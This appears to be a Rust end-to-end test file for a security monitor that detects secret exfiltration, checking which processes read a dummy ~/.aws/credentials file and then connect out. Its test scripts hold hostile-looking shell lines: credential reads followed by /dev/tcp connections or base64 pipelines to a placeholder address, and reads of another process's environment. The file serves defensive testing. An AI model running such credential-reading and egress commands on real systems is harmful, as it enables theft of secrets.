//! Secrets on their way out: who read one, who may hold it, and where it could go. Every destination is an address that
//! no real host has, in a namespace that leads nowhere; the attempt is what counts.

use end_to_end::{Line, Namespace, Run, binary, needs};

use crate::{ACT, job};

const DROP: &str = "203.0.113.9";

/// Runs a script in a namespace of its own, with a dummy secret in its home.
fn run(script: &str, policy: Option<&str>) -> Run {
    let namespace = Namespace::create();
    let enter = format!("--net={}", namespace.file().display());
    let mut job = job(&["bash", "-c", script])
        .by(["nsenter", &enter])
        .variable("ACT", ACT)
        .file(".aws/credentials", "[default]\naws_access_key_id = dummy\n");
    if let Some(policy) = policy {
        job = job.policy(policy);
    }
    job.run().whole()
}

/// The one exfiltration that was found: checks that it stands on the read, the connect and the program's start.
fn chain<'a>(run: &'a Run, severity: &str) -> &'a Line {
    let found: Vec<&Line> = run.log.findings("secret-exfiltration").collect();
    let [finding] = found.as_slice() else { panic!("{} exfiltrations, not one: {found:?}", found.len()) };
    let read = run.log.file(&run.path(".aws/credentials"));
    let connect = run.log.connect(DROP, 443);
    assert_eq!(finding.text("severity"), severity);
    assert_eq!(finding.key(), connect.key(), "the finding is about who connects");
    let before = |exec: &&Line| exec.key() == read.key() && exec.number("seq") < read.number("seq");
    let reader = run.log.of("exec").filter(before).last();
    for line in [read, connect, reader.expect("the reader runs a program")] {
        assert!(finding.evidence().contains(&line.number("seq")), "{:?} lacks {:?}", finding.0, line.0);
    }
    assert!(finding.evidence().is_sorted());
    finding
}

#[test]
fn a_process_that_reads_a_secret_and_connects_is_found() {
    needs!();
    let run = run("read -r _ < ~/.aws/credentials; \"$ACT\" net tcp 203.0.113.9 443", None);
    chain(&run, "critical");
    assert_eq!(run.log.findings("secret-read").count(), 1);
}

#[test]
fn the_shells_own_connect_after_its_own_read_is_found() {
    needs!();
    let run = run("read -r _ < ~/.aws/credentials; exec 3<>/dev/tcp/203.0.113.9/443; true", None);
    let finding = chain(&run, "critical");
    assert_eq!(run.log.file(&run.path(".aws/credentials")).key(), finding.key());
}

#[test]
fn a_child_of_the_reader_is_found() {
    needs!();
    let run =
        run("bash -c 'read -r _ < ~/.aws/credentials; bash -c \"$ACT net tcp 203.0.113.9 443; true\"; true'", None);
    let finding = chain(&run, "critical");
    assert_ne!(run.log.file(&run.path(".aws/credentials")).key(), finding.key());
}

#[test]
fn a_pipeline_from_the_reader_is_found_however_many_programs_it_has() {
    needs!();
    let run = run("cat ~/.aws/credentials | base64 | tr a-z A-Z | \"$ACT\" net after-input 203.0.113.9 443", None);
    chain(&run, "critical");
}

#[test]
fn a_command_substitution_that_captures_the_secret_is_found_with_less_certainty() {
    needs!();
    let run = run("secret=$(cat ~/.aws/credentials); \"$ACT\" net tcp 203.0.113.9 443; true \"$secret\"", None);
    chain(&run, "high");
}

#[test]
fn a_sibling_of_the_reader_is_no_exfiltration() {
    needs!();
    let run = run("cat ~/.aws/credentials > /dev/null; \"$ACT\" net tcp 203.0.113.9 443; true", None);
    assert_eq!(run.log.finding_ids(), ["egress-denied", "secret-read"]);
}

#[test]
fn a_connect_before_the_read_is_no_exfiltration() {
    needs!();
    let run = run("\"$ACT\" net tcp 203.0.113.9 443; read -r _ < ~/.aws/credentials; true", None);
    assert_eq!(run.log.finding_ids(), ["egress-denied", "secret-read"]);
}

#[test]
fn a_destination_that_may_have_secrets_is_no_exfiltration_and_another_allowed_one_is_a_medium_one() {
    needs!();
    let policy = |carries: &str| {
        format!(
            "version: 1\nname: carry\ninclude: [presets/secrets]\negress:\n  allow:\n    - {{ cidr: {DROP}/32, ports: [443], \
             {carries}why: \"the place of this test\" }}\n"
        )
    };
    let script = "read -r _ < ~/.aws/credentials; \"$ACT\" net tcp 203.0.113.9 443";
    let carrying = run(script, Some(&policy("may-carry-secrets: true, ")));
    assert_eq!(carrying.log.finding_ids(), ["secret-read"]);
    let connect = carrying.log.connect(DROP, 443);
    assert_eq!((connect.text("verdict"), connect.text("rule")), ("allowed", "carry/egress.allow[0]"));
    let other = run(script, Some(&policy("")));
    chain(&other, "medium");
}

#[test]
fn an_owner_that_reads_its_own_secret_and_connects_where_it_may_is_no_finding() {
    needs!();
    let policy = format!(
        "version: 1\nname: owner\nsecrets:\n  files:\n    - {{ path: \"~/.aws/credentials\", readers: [act], \
         why: \"the owner of this test\" }}\negress:\n  allow:\n    - {{ cidr: {DROP}/32, ports: [443], \
         why: \"the place of this test\" }}\n"
    );
    // Programs below a temporary directory own nothing, and the project may have been built there.
    let lasting = tempfile::tempdir_in("/var/lib").expect("a directory that is not temporary");
    let owner = lasting.path().join("act");
    binary::copy(ACT, &owner);
    let script = format!("{} net after-reading 203.0.113.9 443 ~/.aws/credentials", owner.display());
    let run = run(&script, Some(&policy));
    assert!(run.log.file(&run.path(".aws/credentials")).is("owner"));
    assert_eq!(run.log.finding_ids(), Vec::<&str>::new());
}

#[test]
fn another_processs_environment_is_found_and_ones_own_is_not() {
    needs!();
    let run = run("head -c1 /proc/self/environ > /dev/null; head -c1 /proc/$$/environ > /dev/null", None);
    let found: Vec<&Line> = run.log.findings("foreign-environ").collect();
    assert_eq!(found.len(), 1, "{found:?}");
    let files: Vec<&Line> = run.log.of("file").collect();
    assert_eq!(files.iter().map(|file| file.is("owner")).collect::<Vec<_>>(), [true, false]);
}
